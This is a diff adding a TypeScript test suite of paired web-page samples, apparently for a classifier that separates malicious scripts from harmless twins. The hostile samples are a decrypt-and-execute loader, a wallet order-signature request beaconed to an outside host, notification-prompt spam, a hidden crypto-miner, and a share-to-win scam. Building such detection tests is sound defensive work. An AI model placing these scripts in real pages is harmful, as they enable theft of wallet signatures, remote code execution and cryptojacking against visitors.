@@ -529,3 +529,45 @@ describe('log-ins without a password', () => {
     ],
   ]);
 });
+
+describe('deeds of scripts and offers', () => {
+  const run = (code: string): Twin => [SITE, page('Members', `${words(3)}${script(code)}`)];
+  const said = (body: string): Twin => [SITE, page('Members', body)];
+  check([
+    [
+      'what is decrypted',
+      run(
+        'var x=new XMLHttpRequest();x.open("GET","/a");x.send();var m=AES.decrypt(x.response,k);new Function(m)()',
+      ),
+      run('var x=new XMLHttpRequest();x.open("GET","/a");x.send();var m=AES.decrypt(x.response,k);show(m)'),
+    ],
+    [
+      'who gets a signed order',
+      run(
+        'var s=await ethereum.request({method:"eth_signTypedData_v4",params:[a,"OrderComponents"]});navigator.sendBeacon("https://in-desk.example/o",JSON.stringify({sig:s}))',
+      ),
+      run(
+        'var s=await ethereum.request({method:"eth_signTypedData_v4",params:[a,"OrderComponents"]});navigator.sendBeacon("/o",JSON.stringify({sig:s}))',
+      ),
+    ],
+    [
+      'how often permission is asked',
+      run('setInterval(function(){Notification.requestPermission()},800)'),
+      run('b.onclick=function(){Notification.requestPermission()}'),
+    ],
+    [
+      'what a hash is for',
+      run(
+        'var n=navigator.hardwareConcurrency,nonce=0,target=4;w=new Worker("/w.js");w.onmessage=(e)=>pool.send(e.data+"sha256")',
+      ),
+      run(
+        'var n=navigator.hardwareConcurrency,nonce=0,target=4;w=new Worker("/w.js");w.onmessage=(e)=>location.replace("/pass?nonce="+e.data+"sha256")',
+      ),
+    ],
+    [
+      'a prize for sharing',
+      said('<p>Congratulations, you have won. Share with 20 friends to claim your prize.</p>'),
+      said('<p>Congratulations, you have passed. Share with 20 friends.</p>'),
+    ],
+  ]);
+});
